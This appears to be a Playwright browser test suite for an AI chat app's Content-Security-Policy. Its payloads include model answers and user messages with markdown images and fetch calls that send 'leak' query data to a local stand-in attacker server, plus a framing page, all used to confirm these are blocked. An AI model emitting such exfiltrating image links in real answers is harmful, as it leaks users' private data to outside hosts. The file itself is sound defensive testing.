import assert from 'node:assert/strict';
import { after, before, describe } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import {
  lastAssistantMessage,
  sendMessage,
  waitForAssistantStatus,
} from '../support/browser-page.ts';
import { browserSuite } from '../support/browser.ts';
import { type FakeOpenAiServer, startFakeOpenAiServer } from '../support/fake-openai-server.ts';
import { type ImageServer, startImageServer } from '../support/image-server.ts';
import { waitFor } from '../support/wait-for.ts';

interface Violation {
  directive: string;
  blockedUri: string;
}

/** Records every Content-Security-Policy violation of the context's pages in `window`. */
async function recordPolicyViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const recorded: { directive: string; blockedUri: string }[] = [];
    Object.assign(window, { policyViolations: recorded });
    document.addEventListener('securitypolicyviolation', (event) => {
      recorded.push({ directive: event.effectiveDirective, blockedUri: event.blockedURI });
    });
  });
}

function policyViolations(page: Page): Promise<Violation[]> {
  return page.evaluate(
    () => (window as unknown as { policyViolations: Violation[] }).policyViolations,
  );
}

/** The markdown in pieces, as a model streams it. */
function deltasOf(markdown: string): string[] {
  return markdown.match(/[\s\S]{1,12}/g) ?? [];
}

describe('images in answers and the Content-Security-Policy in the browser', () => {
  let fake: FakeOpenAiServer;
  let attacker: ImageServer;
  let imageHost: ImageServer;
  const environment: Record<string, string> = {
    OPENAI_API_KEY: 'sk-test-key',
    MODEL: 'fake-model',
  };
  before(async () => {
    fake = await startFakeOpenAiServer();
    attacker = await startImageServer();
    imageHost = await startImageServer();
    environment.OPENAI_BASE_URL = `${fake.url}/v1`;
    environment.IMAGE_HOSTS = imageHost.origin;
  });
  after(async () => {
    await fake.close();
    await attacker.close();
    await imageHost.close();
  });
  const suite = browserSuite({ environment });

  suite.test(
    'an answer with an image from another host loads nothing from it and shows a link naming the host; an allowed host loads',
    async ({ context, openPage, screenshot }) => {
      await recordPolicyViolations(context);
      const attackerHost = new URL(attacker.origin).host;
      const answer = [
        'Here is the chart you asked for:',
        '',
        `![sales chart](${imageHost.origin}/chart.png)`,
        '',
        `And our logo: ![logo](${attacker.origin}/pixel.png?leak=my+secret+plans)`,
        '',
        '```ts',
        'const total: number = 1 + 2;',
        '```',
        '',
        '| quarter | sales |',
        '| --- | --- |',
        '| Q1 | 10 |',
      ].join('\n');
      fake.enqueue({ type: 'text', deltas: deltasOf(answer) });
      const page = await openPage('/');
      await sendMessage(page, 'Show me my secret plans as a chart');
      await waitForAssistantStatus(page, 'completed');
      const message = lastAssistantMessage(page);
      // The highlighter loads as a chunk of its own: the policy must let the app load it.
      await message.locator('code[data-highlighted]').waitFor();

      const chart = message.locator(`img[src^="${imageHost.origin}/"]`);
      await waitFor(() => chart.evaluate((image: HTMLImageElement) => image.naturalWidth > 0), {
        message: 'the image from the allowed host to load',
      });
      assert.equal(await chart.getAttribute('alt'), 'sales chart');
      assert.equal(await message.locator('img').count(), 1, 'only the allowed image is an <img>');
      const placeholder = message.getByTestId('blocked-image');
      assert.equal(await placeholder.textContent(), `Image from ${attackerHost} not loaded: logo`);
      assert.equal(
        await placeholder.getAttribute('href'),
        `${attacker.origin}/pixel.png?leak=my+secret+plans`,
      );
      await screenshot(page, 'answer-image-blocked');

      // Open the chat again from the server's history: the stored answer is judged the same way.
      await page.reload();
      // Until the page has the allowed origins every image is a placeholder: wait for the
      // attacker's, which stays one.
      await lastAssistantMessage(page)
        .locator(`[data-testid="blocked-image"][data-host="${attackerHost}"]`)
        .waitFor();
      await waitFor(() => imageHost.requests.length >= 2, {
        message: 'the allowed image to load again after the reload',
      });

      assert.deepEqual(attacker.requests, [], 'a request reached the host nobody allowed');
      assert.deepEqual(
        imageHost.requests.map((request) => [request.url, request.referer]),
        [
          ['/chart.png', undefined],
          ['/chart.png', undefined],
        ],
        'the allowed image is requested without a Referer',
      );
      assert.deepEqual(await policyViolations(page), [], 'the app broke its own policy');
    },
  );

  suite.test(
    'the browser enforces the policy: an image or a fetch to another host is refused, the allowed host is not',
    async ({ context, openPage, allowConsoleError }) => {
      // Chromium reports each refusal on the console: these three are the ones this test provokes.
      allowConsoleError(
        /^console error: Loading the image '[^']*\/injected\.png\?leak=1' violates/,
      );
      allowConsoleError(/^console error: Connecting to '[^']*\/fetch\?leak=1' violates/);
      allowConsoleError(/^console error: Fetch API cannot load [^ ]*\/fetch\?leak=1\. Refused/);
      await recordPolicyViolations(context);
      const page = await openPage('/');
      await page.getByTestId('composer-input').waitFor();
      const outcome = await page.evaluate(
        async ({ attackerOrigin, allowedOrigin }) => {
          const load = (src: string) =>
            new Promise<string>((resolve) => {
              const image = new Image();
              image.onload = () => resolve('loaded');
              image.onerror = () => resolve('refused');
              image.src = src;
              document.body.append(image);
            });
          const fetched = await fetch(`${attackerOrigin}/fetch?leak=1`, { mode: 'no-cors' }).then(
            () => 'fetched',
            () => 'refused',
          );
          return {
            attacker: await load(`${attackerOrigin}/injected.png?leak=1`),
            allowed: await load(`${allowedOrigin}/injected.png`),
            fetched,
          };
        },
        { attackerOrigin: attacker.origin, allowedOrigin: imageHost.origin },
      );
      assert.deepEqual(outcome, { attacker: 'refused', allowed: 'loaded', fetched: 'refused' });
      assert.deepEqual(
        (await policyViolations(page)).map((violation) => violation.directive).sort(),
        ['connect-src', 'img-src'],
      );
      assert.deepEqual(attacker.requests, [], 'a request reached the host nobody allowed');
    },
  );

  suite.test('no other site can frame the app', async ({ context, baseUrl, allowConsoleError }) => {
    allowConsoleError(/^console error: Framing '[^']*' violates [^"]*"frame-ancestors 'none'"/);
    attacker.servePage('/frame.html', `<!doctype html><iframe src="${baseUrl}/"></iframe>`);
    const page = await context.newPage();
    await page.goto(`${attacker.origin}/frame.html`);
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    assert.ok(frame, 'the page has no frame');
    await waitFor(async () => frame.url() !== '' && frame.url() !== 'about:blank', {
      message: 'the frame to settle',
    });
    assert.equal(await frame.locator('#root').count(), 0, 'the app rendered inside a frame');
  });

  suite.test('the built app ships no source maps', async ({ baseUrl }) => {
    const html = await (await fetch(`${baseUrl}/`)).text();
    const scripts = [...html.matchAll(/src="(\/assets\/[^"]+\.js)"/g)].map((match) => match[1]);
    assert.ok(scripts.length > 0, 'index.html names no script');
    for (const script of scripts) {
      const body = await (await fetch(`${baseUrl}${script}`)).text();
      assert.doesNotMatch(body, /sourceMappingURL/, script);
      assert.equal((await fetch(`${baseUrl}${script}.map`)).status, 404, `${script}.map`);
    }
  });
});

describe('images in answers with the default configuration', () => {
  let attacker: ImageServer;
  before(async () => {
    attacker = await startImageServer();
  });
  after(async () => {
    await attacker.close();
  });
  // The demo model quotes the user's message: the answer carries the image the message wrote.
  const suite = browserSuite({ environment: { DEMO_TOKEN_DELAY_MS: '0' } });

  suite.test(
    'no IMAGE_HOSTS: an image the answer quotes loads from nowhere',
    async ({ context, openPage }) => {
      await recordPolicyViolations(context);
      const image = `![x](${attacker.origin}/p.png?leak=1)`;
      const page = await openPage('/');
      await sendMessage(page, image);
      await waitForAssistantStatus(page, 'completed');
      const message = lastAssistantMessage(page);
      assert.match((await message.getByTestId('message-text').textContent()) ?? '', /You said/);
      assert.equal(
        await message.getByTestId('blocked-image').textContent(),
        `Image from ${new URL(attacker.origin).host} not loaded: x`,
      );
      assert.equal(await page.locator('img').count(), 0, 'an <img> on the page');
      assert.equal(
        await page.locator('[data-role="user"] [data-testid="message-text"]').textContent(),
        image,
        'the message as typed, as text',
      );
      assert.deepEqual(attacker.requests, [], 'a request reached the host nobody allowed');
      assert.deepEqual(await policyViolations(page), []);
    },
  );
});
